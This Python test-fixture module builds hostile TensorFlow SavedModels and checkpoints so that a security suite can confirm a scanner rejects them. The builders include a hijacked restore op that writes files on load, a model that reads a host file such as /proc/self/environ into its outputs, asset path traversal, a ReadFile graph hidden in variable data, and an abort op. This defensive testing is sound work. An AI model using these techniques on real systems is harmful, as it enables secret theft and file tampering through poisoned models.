"""Hostile TensorFlow models, built the way an attacker would (no downloads, small graphs).

Each builder writes one model that does real harm when the stock loaders load or run it: writes a file, reads
a host file or the process environment into its outputs, runs a graph hidden in its checkpoint, or ends the
process. `tests/security/test_hostile_models.py` shows the harm (with the stock loaders, or with the op allowed)
and that the inspect stage refuses each one before any of its ops runs.
"""

from __future__ import annotations

import os
import tempfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

PAYLOAD = b"written by a model while it was loaded\n"


def _tf() -> Any:
    import tensorflow as tf

    return tf


def builder_save(dest: Path, session: Any, inputs: dict[str, Any], outputs: dict[str, Any], **kwargs: Any) -> Path:
    """A TF1 SavedModel (`Builder`), tagged 'serve', with a `serving_default` predict signature."""
    tf = _tf()
    builder = tf.compat.v1.saved_model.Builder(str(dest))
    signature = tf.compat.v1.saved_model.signature_def_utils.predict_signature_def(inputs, outputs)
    builder.add_meta_graph_and_variables(session, ["serve"], signature_def_map={"serving_default": signature},
                                         **kwargs)
    builder.save()
    return dest


def _dense(tf: Any) -> tuple[Any, Any]:
    """x[None,4] @ w[4,2] -> y, with one resource variable (so there is a real saver)."""
    x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
    w = tf.compat.v1.get_variable("w", initializer=tf.ones([4, 2]), use_resource=True)
    return x, tf.identity(tf.matmul(x, w), name="y")


def _hijacked_saver(tf: Any, graph: Any, target: str) -> Any:
    """The stock Saver, its restore op replaced by a NoOp that writes `target` and then restores for real."""
    saver = tf.compat.v1.train.Saver()
    real_restore = graph.get_operation_by_name(saver.saver_def.restore_op_name)
    write = tf.io.write_file(tf.constant(target), tf.constant(PAYLOAD), name="save/shard_bookkeeping")
    with tf.control_dependencies([write, real_restore]):
        hijacked = tf.no_op(name="save/restore_all_v2")
    saver.saver_def.restore_op_name = hijacked.name
    return saver


def restore_op_savedmodel(dest: Path, target: str) -> Path:
    """saver_def.restore_op_name -> NoOp(^WriteFile, ^save/restore_all): every loader runs it while loading."""
    tf = _tf()
    graph = tf.Graph()
    with graph.as_default():
        x, y = _dense(tf)
        saver = _hijacked_saver(tf, graph, target)
        with tf.compat.v1.Session(graph=graph) as session:
            session.run(tf.compat.v1.global_variables_initializer())
            builder_save(dest, session, {"x": x}, {"y": y}, saver=saver)
    return dest


def checkpoint_meta(dest: Path, target: str) -> Path:
    """The same restore op in a TF1 checkpoint (model.meta + .index/.data): import_meta_graph + saver.restore
    writes `target`. Returns the directory."""
    tf = _tf()
    dest.mkdir(parents=True, exist_ok=True)
    graph = tf.Graph()
    with graph.as_default():
        _dense(tf)
        saver = _hijacked_saver(tf, graph, target)
        with tf.compat.v1.Session(graph=graph) as session:
            session.run(tf.compat.v1.global_variables_initializer())
            saver.save(session, str(dest / "model"), write_meta_graph=False)
        tf.compat.v1.train.export_meta_graph(str(dest / "model.meta"), saver_def=saver.saver_def, graph=graph)
    return dest


def table_leak_savedmodel(dest: Path, source: str) -> Path:
    """main_op = InitializeTableFromTextFileV2(<host file>), and the table's keys are the output 'vocab'.
    key_index=-2 takes whole lines: /proc/self/environ (NUL-separated) arrives as one key, the whole
    environment. The path is joined at run time, so no string constant names it."""
    tf = _tf()
    from tensorflow.python.ops import gen_lookup_ops

    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        y = tf.identity(x * 2.0, name="y")
        table = gen_lookup_ops.hash_table_v2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="vocab")
        head, tail = os.path.split(source)
        filename = tf.strings.join([head + "/", tail], name="vocab_path")
        init = gen_lookup_ops.initialize_table_from_text_file_v2(table, filename, key_index=-2, value_index=-1,
                                                                delimiter="\t", name="init_vocab")
        keys, _ = gen_lookup_ops.lookup_table_export_v2(table, tf.string, tf.int64, name="vocab_export")
        with tf.compat.v1.Session(graph=graph) as session:
            builder_save(dest, session, {"x": x}, {"y": y, "vocab": keys}, main_op=tf.group(init))
    return dest


def asset_escape_savedmodel(dest: Path, asset_filename: str) -> Path:
    """The legitimate TF1 asset pattern (the loader feeds the asset tensor to the table), but the AssetFileDef
    names `asset_filename` (absolute, or '../..'): loaders build the path with os.path.join(assets, name)."""
    tf = _tf()
    from tensorflow.core.protobuf import meta_graph_pb2, saved_model_pb2
    from tensorflow.python.ops import gen_lookup_ops

    with tempfile.TemporaryDirectory() as scratch:
        vocab = Path(scratch) / "vocab.txt"
        vocab.write_text("a\nb\n")
        graph = tf.Graph()
        with graph.as_default():
            x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
            y = tf.identity(x * 2.0, name="y")
            table = gen_lookup_ops.hash_table_v2(key_dtype=tf.string, value_dtype=tf.int64, shared_name="vocab")
            filename = tf.constant(str(vocab), name="asset_filepath")
            tf.compat.v1.add_to_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS, filename)
            init = gen_lookup_ops.initialize_table_from_text_file_v2(table, filename, key_index=-2, value_index=-1,
                                                                    delimiter="\t", name="init_vocab")
            keys, _ = gen_lookup_ops.lookup_table_export_v2(table, tf.string, tf.int64, name="vocab_export")
            with tf.compat.v1.Session(graph=graph) as session:
                builder_save(dest, session, {"x": x}, {"y": y, "vocab": keys}, main_op=tf.group(init),
                             assets_collection=tf.compat.v1.get_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS))
    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((dest / "saved_model.pb").read_bytes())
    for meta_graph in proto.meta_graphs:
        for asset in meta_graph.asset_file_def:
            asset.filename = asset_filename
        for value in meta_graph.collection_def["saved_model_assets"].any_list.value:
            legacy = meta_graph_pb2.AssetFileDef()
            value.Unpack(legacy)
            legacy.filename = asset_filename
            value.Pack(legacy)
    (dest / "saved_model.pb").write_bytes(proto.SerializeToString())
    for copied in (dest / "assets").glob("*"):
        copied.unlink()
    return dest


def dataset_from_graph_savedmodel(dest: Path, source: str) -> Path:
    """DatasetFromGraph(a string variable) -> output 'note'. The variable holds a serialized GraphDef of
    Dataset.from_tensors(source).map(ReadFile), stored only in variables/variables.data: no op list in
    saved_model.pb names ReadFile."""
    tf = _tf()
    from tensorflow.python.ops import gen_dataset_ops, gen_experimental_dataset_ops

    hidden = tf.data.Dataset.from_tensors(tf.constant(source)).map(tf.io.read_file)
    embedded = bytes(hidden._as_serialized_graph().numpy())  # the attack: a graph serialized into a string
    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        y = tf.identity(x * 2.0, name="y")
        initial = tf.compat.v1.placeholder(tf.string, [1], name="config_initial")
        config = tf.compat.v1.get_variable("lookup_config", initializer=initial, use_resource=True)
        dataset = gen_experimental_dataset_ops.dataset_from_graph(tf.reshape(config.read_value(), []),
                                                                  name="config_dataset")
        (note,) = gen_dataset_ops.dataset_to_single_element(dataset, output_types=[tf.string], output_shapes=[[]],
                                                            name="config")
        note = tf.reshape(note, [1], name="note")
        with tf.compat.v1.Session(graph=graph) as session:
            session.run(config.initializer, {initial: [embedded]})
            builder_save(dest, session, {"x": x}, {"y": y, "note": note})
    return dest


def abort_savedmodel(dest: Path, exit_without_error: bool = True) -> Path:
    """y = x * 2 with a control dependency on Abort: exit(0) in the middle of the work (SIGABRT when
    exit_without_error is False)."""
    tf = _tf()
    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        abort = tf.raw_ops.Abort(error_msg="hostile model", exit_without_error=exit_without_error, name="sync")
        with tf.control_dependencies([abort]):
            y = tf.identity(x * 2.0, name="y")
        with tf.compat.v1.Session(graph=graph) as session:
            builder_save(dest, session, {"x": x}, {"y": y})
    return dest


def with_op_savedmodel(dest: Path, attach: Callable[[Any, Any], Any]) -> Path:
    """y = x * 2, plus an output 'extra' computed by `attach(tf, x)`: one op of a class the old deny list
    missed (a Tensor, or an Operation the output then depends on)."""
    tf = _tf()
    graph = tf.Graph()
    with graph.as_default():
        x = tf.compat.v1.placeholder(tf.float32, [None, 4], name="x")
        extra = attach(tf, x)
        if isinstance(extra, tf.Operation):
            with tf.control_dependencies([extra]):
                extra = tf.identity(x, name="extra")
        y = tf.identity(x * 2.0, name="y")
        with tf.compat.v1.Session(graph=graph) as session:
            builder_save(dest, session, {"x": x}, {"y": y, "extra": extra})
    return dest


def inject_node(saved_model: Path, op: str, attrs: dict[str, bytes]) -> Path:
    """Add a node of `op` to a SavedModel's graph that the output 'y' depends on, the way an attacker edits a
    protobuf for ops Python refuses to build (deprecated ones such as Skipgram)."""
    from tensorflow.core.protobuf import saved_model_pb2

    proto = saved_model_pb2.SavedModel()
    proto.ParseFromString((saved_model / "saved_model.pb").read_bytes())
    graph_def = proto.meta_graphs[0].graph_def
    node = graph_def.node.add()
    node.name, node.op = f"injected_{op.lower()}", op
    for key, value in attrs.items():
        node.attr[key].s = value
    for existing in graph_def.node:
        if existing.name == "y":
            existing.input.append(f"^{node.name}")
    (saved_model / "saved_model.pb").write_bytes(proto.SerializeToString())
    return saved_model


def uncalled_function_savedmodel(dest: Path, target: str) -> Path:
    """A TF2 SavedModel whose signature is harmless, with a library function that writes a file and that no
    signature calls: a tool (or a later graph edit) can still run it, so it is scanned too."""
    tf = _tf()

    class Module(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 4], tf.float32, name="x")])
        def serve(self, x: Any) -> dict[str, Any]:
            return {"y": x * 2.0}

        @tf.function(input_signature=[tf.TensorSpec([], tf.string)])
        def maintenance(self, text: Any) -> Any:
            tf.io.write_file(target, text)
            return tf.strings.length(text)

    module = Module()
    module.maintenance.get_concrete_function()
    tf.saved_model.save(module, str(dest), signatures={"serving_default": module.serve})
    return dest
